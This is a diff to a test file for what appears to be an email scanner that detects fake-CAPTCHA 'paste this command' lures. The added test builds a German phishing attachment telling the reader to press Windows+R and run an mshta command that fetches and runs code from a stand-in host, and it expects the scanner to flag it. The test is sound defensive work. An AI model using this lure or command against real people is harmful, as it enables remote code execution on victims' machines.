@@ -66,6 +66,16 @@ describe('commands to paste', () => {
     assert.deepEqual(await run(mailWithDocuments(head, 'Guide.', ['Help.html', page('cmd /c ipconfig', '<li>Press Windows + R and type mstsc</li>')])), []);
   });
 
+  it('an attached page that shows a command that downloads and runs, and the Run box, no paste key (the sixty-fourth pair\'s "complaint" with photos)', async () => {
+    const head = 'From: Sandra Köhler <sandra.koehler.hr@mail.example>\r\nTo: lena@example.com\r\nSubject: Beschwerde\r\n';
+    const page = (command: string): Buffer => Buffer.from(`<html><body><h3>Bestätigen Sie, dass Sie ein Mensch sind</h3><ol><li>Drücken Sie <b>Windows-Taste + R</b></li><li>Geben Sie den Prüfcode ein</li><li>Drücken Sie Enter</li></ol><code>${command}</code></body></html>`);
+    assert.deepEqual(await run(mailWithDocuments(head, 'Fotos und Arztbrief im Anhang.', ['Beschwerde_Fotos.html', page('mshta https://verify-cdn-docs.example/cf/ch?id=7741 # Ich bin kein Roboter')])), [
+      'PASTE_COMMAND_LURE: a command that downloads and runs: "mshta https://verify-cdn-docs.example/cf/ch?id=7741", to paste at "windows-taste + r"',
+    ]);
+    // a command that fetches nothing is no lure there either
+    assert.deepEqual(await run(mailWithDocuments(head, 'Anleitung im Anhang.', ['Anleitung.html', page('ipconfig /all')])), []);
+  });
+
   it('the fake CAPTCHA with no command in it, which its kit fetches when the page opens: a human verification that names the Run box and the paste (the forty-second held-out pair)', async () => {
     const head = 'From: Daniel Harper <purchasing@marine.example>\r\nTo: lena@example.com\r\nSubject: RFQ 26-1187\r\n';
     const page = (title: string, steps: string): Buffer => Buffer.from(`<html><body><h2>${title}</h2><div class="cb"><span class="box"></span> reCAPTCHA</div><ol>${steps}</ol></body></html>`);
